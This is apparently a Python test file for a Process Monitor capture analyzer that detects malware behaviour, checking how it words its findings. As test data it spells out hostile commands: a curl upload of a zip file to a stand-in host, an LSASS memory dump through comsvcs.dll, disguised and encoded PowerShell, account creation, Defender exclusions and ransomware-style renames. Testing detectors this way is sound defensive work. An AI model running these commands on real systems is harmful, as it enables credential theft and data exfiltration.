"""What is told, and what is not: small captures with the right sentences and the wrong ones that once stood there."""
import json

from harness import contains, equal, folder, kaiseki, run, shared

HEADER = ["Time of Day", "Process Name", "PID", "Operation", "Path", "Result", "Detail"]
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"


def capture(target, rows):
    """Writes rows (name, pid, operation, path, detail[, result]), a tenth of a second apart, with seven columns."""
    path = target + "/capture.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as out:
        lines = [HEADER]
        for at, row in enumerate(rows):
            name, pid, operation, where, detail = row[:5]
            time = "9:%02d:%02d.%d000000 AM" % (at // 600, at // 10 % 60, at % 10)
            lines.append([time, name, str(pid), operation, where, row[5] if len(row) > 5 else "SUCCESS", detail])
        for line in lines:
            out.write(",".join('"%s"' % cell.replace('"', '""') for cell in line) + "\r\n")
    return path


def report(rows, *options, form="text"):
    with folder() as target:
        result = kaiseki("analyze", capture(target, rows), "--report", form, *options)
        equal(result.status, 0, result.err)
        return result.out


def data_of(rows, *options):
    return json.loads(report(rows, *options, form="json"))


def sentences(rows, *options):
    return [entry["text"] for entry in data_of(rows, *options)["findings"]]


def told(rows, *parts):
    text = "\n".join(sentences(rows))
    for part in parts:
        contains(text, part)
    return text


def starts(line, image=r"C:\Windows\System32\cmd.exe", name="x.exe", pid=2000, child=3000):
    return (name, pid, "Process Create", image, "PID: %d, Command line: %s" % (child, line))


def sets(path, data, name="x.exe", kind="REG_SZ"):
    return (name, 2000, "RegSetValue", path, "Type: %s, Length: 8, Data: %s" % (kind, data))


def connects(ends, operation="TCP Connect"):
    return ("x.exe", 2000, operation, ends, "Length: 0, seqnum: 0, connid: 0")


# --- what failed or was taken back ---

def test_what_failed_changes_nothing():
    rows = [("x.exe", 2000, "RegDeleteValue", r"HKCU\Software\Acme\Gone", "", "NAME NOT FOUND"),
            ("x.exe", 2000, "RegDeleteKey", r"HKCU\Software\Acme", "", "ACCESS DENIED"),
            ("x.exe", 2000, "SetDispositionInformationFile", r"C:\a.txt", "Delete: True", "CANNOT DELETE"),
            ("x.exe", 2000, "SetRenameInformationFile", r"C:\b.txt", r"ReplaceIfExists: False, FileName: C:\c.txt",
             "ACCESS DENIED")]
    text = report(rows)
    contains(text, "Registry Activity  2 attempts failed (--all)")
    contains(text, "File Activity      none")
    assert "deleted" not in text and "renamed" not in text, text
    contains(report(rows, "--all"), "failed to delete it")


def test_deletions_taken_back():
    def disposition(path, delete, operation="SetDispositionInformationFile"):
        return ("x.exe", 2000, operation, path, delete)
    on_close = ("x.exe", 2000, "CreateFile", r"C:\c.txt",
                "Desired Access: Delete, Disposition: Open, Options: Non-Directory File, Delete On Close, "
                "Attributes: n/a, ShareMode: Read, AllocationSize: n/a, OpenResult: Opened")
    posix = "Flags: FILE_DISPOSITION_DELETE, FILE_DISPOSITION_POSIX_SEMANTICS"
    files = {each["path"]: each.get("deleted", False) for each in data_of([
        disposition(r"C:\a.txt", "Delete: True"), disposition(r"C:\a.txt", "Delete: False"),
        disposition(r"C:\b.txt", posix, "SetDispositionInformationEx"),
        on_close, disposition(r"C:\c.txt", "Delete: False"),
        disposition(r"C:\d.txt", "Flags: FILE_DISPOSITION_DO_NOT_DELETE", "SetDispositionInformationEx"),
    ])["files"]}
    equal(files, {r"C:\a.txt": False, r"C:\b.txt": True, r"C:\c.txt": True})


# --- ends that are no hosts ---

LOCAL = ["LAB1:1030 -> LAB1:8888", "localhost:1031 -> localhost:80", "127.0.0.1:1032 -> 127.9.9.9:9001",
         "lab1.corp.example:1033 -> lab1.corp.example:9002", "LAB1:1033 -> lab1.corp.example:9002",
         "lab1.corp.example:1033 -> LAB1:9002", "[::1]:1034 -> [::1]:9003",
         "0:0:0:0:0:0:0:1:1035 -> 0:0:0:0:0:0:0:1:9004", "192.168.1.7:1036 -> 192.168.1.7:4444"]
NONE = ["192.168.1.7:1 -> 224.0.0.252:5355", "192.168.1.7:1 -> 239.255.255.250:1900",
        "192.168.1.7:1 -> 192.168.1.255:137", "192.168.1.7:68 -> 255.255.255.255:67",
        "192.168.1.7:1 -> 0.0.0.0:4444"]


def test_ends_within_the_machine_are_no_hosts():
    for ends in LOCAL:
        for operation in "TCP Connect", "TCP Reconnect", "TCP Receive":
            data = data_of([connects(ends, operation)], "--sample", "2000")
            equal(data["hosts"], [], ends)
            equal(data["findings"], [], ends)
            equal([each["is_local"] for each in data["endpoints"]], [True], ends)
        rows = [connects(ends)]
        contains(report(rows), "within this machine")
        assert "Unique Hosts" not in report(rows), ends
        equal(len(report(rows, "--all", form="ioc").splitlines()), 1, ends)


def test_ends_of_many_are_no_hosts():
    for ends in NONE:
        rows = [connects(ends, "UDP Send")]
        data = data_of(rows, "--sample", "2000")
        equal((data["hosts"], data["findings"]), ([], []), ends)
        equal(len(report(rows, "--all", form="ioc").splitlines()), 1, ends)


def test_other_machines_stay_hosts():
    for ends in ("LAB1:1030 -> LAB12:8888", "LAB1:1 -> evil.example:80", "192.168.1.7:1 -> 198.51.100.255:4444",
                 "lab1.a.example:1 -> lab1.b.example:80", "10.0.0.1:1 -> 10.0.0.10:4444"):
        data = data_of([connects(ends)], "--sample", "2000")
        equal(len(data["hosts"]), 1, ends)
        assert data["findings"], ends


# --- Windows' own writes ---

OWN = [
    sets(r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1\\Device\x.exe", "4F D4",
         kind="REG_BINARY"),
    sets(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap\ProxyBypass", "1"),
    ("x.exe", 2000, "RegDeleteValue",
     r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap\IntranetName", ""),
    sets(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable", "0"),
    sets(r"HKLM\SOFTWARE\Microsoft\Tracing\x_RASAPI32\EnableFileTracing", "0"),
    sets(r"HKCU\Software\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Compatibility Assistant\Store\C:\x.exe", "53"),
    ("x.exe", 2000, "RegCreateKey", r"HKCU\Software\Microsoft\SystemCertificates\SmartCardStore",
     "Desired Access: All Access, Disposition: REG_CREATED_NEW_KEY"),
]
VISIBLE = [
    sets(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap\Domains\evil.example\*", "2"),
    sets(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyEnable", "1"),
    sets(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyServer", "203.0.113.5:80"),
    sets(r"HKLM\SOFTWARE\Microsoft\SystemCertificates\ROOT\Certificates\0563B8630D62D75\Blob", "04"),
    ("x.exe", 2000, "RegDeleteValue",
     r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1\\Device\x.exe", ""),
    ("x.exe", 2000, "RegDeleteKey", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{C}\Count", ""),
]


def test_windows_own_writes_are_hidden_by_component():
    for rows, options in (OWN + [("System", 4, "Thread Create", "", "Thread ID: 8")], ()), (OWN, ("--sample", "2000")):
        text = report(rows, *options)
        contains(text, "Registry Activity  none")
        contains(" ".join(text.split()), "background activity moderator: when programs ran 1")
        contains(text, "7 of Windows' own in the sample's tree" if options else "Hidden   7: ")
        contains(report(OWN, "--show-suppressed", *options), "ProxyBypass")


def test_noriben_does_not_know_components():
    text = report(OWN, form="noriben")
    for part in "UserSettings", "ProxyBypass", "IntranetName":
        contains(text, part)


def test_what_malware_changes_there_is_shown():
    for row in VISIBLE:
        for options in (), ("--sample", "2000"):
            text = report([row], *options)
            assert "Registry Activity  none" not in text, (row, text)


# --- what --explain says of the report ---

def test_explain_and_report_agree():
    """Every event without a sample: whitelisted ones are not shown, others that an activity asks for are."""
    rows = OWN + VISIBLE + [
        sets(r"HKCU\Software\Classes\Local Settings\MuiCache\2\52C64B7E\LanguageList", "en-US"),
        sets(r"HKCU\Software\Acme\Value", "1"),
        ("x.exe", 2000, "WriteFile", r"C:\Users\a\AppData\Local\Temp\new.txt", "Offset: 0, Length: 5"),
        ("x.exe", 2000, "WriteFile", r"C:\Windows\Prefetch\A.pf", "Offset: 0, Length: 5"),
        ("svchost.exe", 900, "Process Create", r"C:\Windows\System32\consent.exe", "PID: 901, Command line: consent.exe 1"),
        starts("tool.exe /x", r"C:\Tools\tool.exe"),
    ]
    names = [row[3].rsplit("\\", 1)[1] for row in rows]
    names[-1] = "tool.exe"
    with folder() as target:
        path = capture(target, rows)
        text = kaiseki("analyze", path, "--all", "--raw").out
        shown = {json.loads(line)["event"]["sequence"]
                 for line in kaiseki("analyze", path, "--report", "ndjson").out.splitlines()}
        for at, row in enumerate(rows):
            verdict = kaiseki("analyze", path, "--explain", str(at)).out.splitlines()[-1]
            hidden = "whitelisted" in verdict
            assert hidden or verdict.startswith("In the report"), (row, verdict)
            body = text.split("Hidden ")[0]
            same = [i for i, name in enumerate(names) if name == names[at]]
            if len(same) == 1:
                equal(names[at] in body, not hidden, (row, verdict, text))
            equal(at in shown, not hidden, (row, verdict))


# --- sentences ---

def test_parentheses_of_a_command_stay():
    told([starts('cmd /c icacls "one.exe" /deny "%username%":(DE)')], '"%username%":(DE) (1 command)')
    told([starts('cmd /c (icacls "one.exe" /deny "%username%":(DE))')], '"%username%":(DE) (1 command)')


def test_a_piece_of_a_command_is_no_file():
    line = (r"powershell.exe -nop -w hidden -c $a=[IO.File]::ReadAllText('C:\Users\lab\Desktop\build.bat');"
            r"$b=$a[-1..-4] -join ''")
    reason = data_of([("powershell.exe", 3688, "Process Start", "", "Parent PID: 1280, Command line: " + line
                       + ", Current directory: C:\\Users\\lab\\, Environment: ;\tA=b")])["sample"]
    assert "build.bat'" not in json.dumps(reason), reason


def test_sentences_of_commands():
    for line, part, wrong in (
            ("net user itadm P@ssw0rd! /add /domain", "adds account itadm to the domain", None),
            ("net user itadm P@ssw0rd! /add", "adds account itadm", "domain"),
            (r"curl -s -F file=@C:\Users\Public\fs.zip https://upload.example",
             r"has curl upload C:\Users\Public\fs.zip to", "a tool"),
            (r"sc create drv type= kernel binPath= C:\Users\Public\a.sys", 'sets up driver "drv" to load', "service"),
            (r"sc create S binPath= C:\Users\Public\a.exe start= auto", 'sets up service "S" to run', "driver"),
            (r'wmic process call create "C:\Users\Public\a.exe"', r"has WMI start C:\Users\Public\a.exe", '"C:'),
            (r"rundll32.exe C:\windows\system32\comsvcs.dll, #+000024 624 C:\Windows\Temp\b.bin full",
             "dumps the security service's memory", None),
            ("powershell -w 1 -ep Unrestricted -nop function a($b){-split($b)}", "a command without a window", None),
            ("powershell -w hidden -c $a=[IO.File]::('txeTllAdaeR'[-1..-11] -join '')('b')",
             "a command with disguised words", None)):
        text = told([starts(line)], part)
        assert wrong is None or wrong not in text, (line, text)
    equal(sentences([starts("net localgroup docker-users /add")]), [])
    equal(sentences([starts(r"powershell -w hidden -ep bypass -File C:\Program Files\Agent\run.ps1")]), [])


def test_the_doer_is_the_script_not_what_opened_it():
    rows = [starts(r'"C:\Program Files\WinRAR\WinRAR.exe" C:\Users\a\Downloads\PO.rar', r"C:\Program Files\WinRAR\WinRAR.exe",
                   "Explorer.EXE", 1000, 1500),
            starts(r'WScript.exe "C:\Users\a\AppData\Local\Temp\PO.vbs"', r"C:\Windows\System32\WScript.exe", "WinRAR.exe",
                   1500, 2000),
            starts("powershell -e SQBFAFgAIABhAGEAYQBhAGEAYQA=",
                   r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "WScript.exe", 2000, 2100)]
    told(rows, "WScript 2000 has PowerShell run an encoded command")


def test_exclusions_are_told_as_such():
    key = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions" + "\\"
    text = told([sets(key + r"Paths\C:\ProgramData\a.exe", "0", "MsMpEng.exe"),
                 sets(key + "Extensions\\.exe", "0", "MsMpEng.exe"),
                 sets(key + "Processes\\b.exe", "0", "MsMpEng.exe")],
                r"has Defender pass over C:\ProgramData\a.exe", "files ending in .exe", "what is opened by b.exe")
    assert "= 0" not in text, text


# --- behaviours ---

def test_run_values_of_unusual_places():
    for data in (r"C:\Windows\nt77.exe hk", r"C:\Windows\Fonts\a.exe", r"C:\Intel\j.exe", r"\\srv\share\k.exe",
                 r"%windir%\Help\a.exe"):
        told([sets(RUN + r"\v", data)], "started at logon")
    for data in (r"C:\Windows\System32\SecurityHealthSystray.exe", r"C:\Windows\explorer.exe",
                 r'"C:\Program Files\Tool\tool.exe" /tray', r"C:\Windows\System32\spool\drivers\x64\3\monitor.exe"):
        equal(sentences([sets(RUN + r"\v", data)]), [], data)


def test_file_associations_taken_over():
    told([sets(r"HKCR\.vbs\(Default)", "exefile")], "has Windows open .vbs with exefile")
    told([sets(r"HKCU\Software\Classes\txtfile\shell\open\command\(Default)", r'C:\Windows\nt77.exe "%1"')],
         "has Windows open txtfile with")
    for path, data in ((r"HKCR\.exe\(Default)", "exefile"),
                       (r"HKCR\txtfile\shell\open\command\(Default)", r"%SystemRoot%\system32\NOTEPAD.EXE %1"),
                       (r"HKCU\Software\Classes\Code.txt\shell\open\command\(Default)", r'"C:\Users\a\Code\code.exe" "%1"')):
        equal(sentences([sets(path, data)]), [], path)


def locked(count, write=True):
    rows = [starts(r"C:\Users\lab\Desktop\l.exe", r"C:\Users\lab\Desktop\l.exe", "Explorer.EXE", 100, 1500)]
    for at in range(count):
        path = r"C:\Users\lab\Documents\d%d.docx" % at
        if write:
            rows.append(("l.exe", 1500, "WriteFile", path, "Offset: 0, Length: 4,096"))
        rows.append(("l.exe", 1500, "SetRenameInformationFile", path, "ReplaceIfExists: False, FileName: %s.lckd" % path))
    return rows


def test_few_documents_locked():
    told(locked(12), "gives 12 files the ending .lckd")
    for rows in locked(4), locked(12, False):
        assert not any("ending" in text for text in sentences(rows)), sentences(rows)


def test_locked_files_are_no_downloads():
    rows = locked(12)
    rows[1:1] = [("l.exe", 1500, "TCP Receive", "10.0.0.5:50000 -> 203.0.113.9:443", "Length: 4,096, seqnum: 0, connid: 0")]
    assert not any("downloads" in text for text in sentences(rows)), sentences(rows)


def test_injected_libraries_and_packages():
    def load(name, path):
        return (name, 77, "Load Image", path, "Image Base: 0x7ff8845f0000, Image Size: 0x4d000")
    told([load("Notepad.exe", r"C:\Users\lab\Downloads\rx.dll")], "a program of Windows, loads")
    equal(sentences([load("rundll32.exe", r"C:\Users\lab\Downloads\rx.dll")]), [])
    package = r"C:\Users\a\AppData\Local\Temp\ScreenConnect.ClientSetup.msi"
    written = ("v.exe", 8, "WriteFile", package, "Offset: 0, Length: 13,385,728")
    install = starts('msiexec.exe /i "%s"' % package, r"C:\Windows\SysWOW64\msiexec.exe", "v.exe", 8, 9)
    told([written, install], "has Windows Installer install", "remote access by ScreenConnect")
    equal(sentences([install]), [])


RULES = {"execution.dropped-package", "stealth.foreign-library", "persistence.file-association",
         "persistence.run-key", "execution.powershell", "impact.encryption", "defense-impairment.root-certificate"}


def test_ordinary_programs_do_none_of_it():
    for name in "clickonce", "docker-desktop", "playwright":
        result = kaiseki("analyze", shared("cases2", "detect-benign-%s.csv" % name), "--report", "json")
        equal([entry["text"] for entry in json.loads(result.out)["findings"]
               if entry["rule"] in RULES and entry["severity"] in ("medium", "high", "critical")], [], name)


if __name__ == "__main__":
    run(globals())
